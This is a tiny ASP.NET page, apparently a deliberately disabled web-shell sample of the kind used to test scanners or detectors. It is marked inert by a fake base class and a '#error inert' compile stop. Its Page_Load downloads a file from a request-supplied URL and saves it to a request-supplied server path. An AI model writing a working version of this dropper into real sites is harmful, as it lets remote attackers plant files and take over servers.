<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load() { new System.Net.WebClient().DownloadFile(Request["u"], Request["p"]); }
</script>